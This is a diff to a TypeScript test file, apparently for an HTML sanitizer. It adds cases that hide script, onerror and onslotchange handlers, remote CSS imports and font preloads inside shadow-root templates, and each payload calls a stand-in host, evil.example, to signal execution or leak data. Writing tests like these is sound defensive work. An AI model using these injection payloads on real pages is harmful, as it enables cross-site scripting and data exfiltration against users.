@@ -9,6 +9,15 @@ const run = "(window.__ran=(window.__ran||0)+1,fetch('https://evil.example/ran')
 const leak = 'https://evil.example/leak'
 
 const sources: readonly (readonly [string, string])[] = [
+  [
+    'script in a shadow tree',
+    '<div><template shadowrootmode=open><script>RUN</script><img src=LEAK.png onerror="RUN"><style>@import "LEAK.css"</style><slot onslotchange="RUN"></slot></template>x</div>',
+  ],
+  [
+    'script in nested templates',
+    '<div><template shadowrootmode=open><template shadowrootmode=open><script>RUN</script></template></template></div>',
+  ],
+  ['font ahead from elsewhere', '<link rel=preload as=font href="LEAK.woff2" crossorigin>'],
   ['script element', '<script>RUN</script>'],
   ['script from elsewhere', '<script src="LEAK.js"></script>'],
   ['module script', '<script type="module">RUN</script>'],
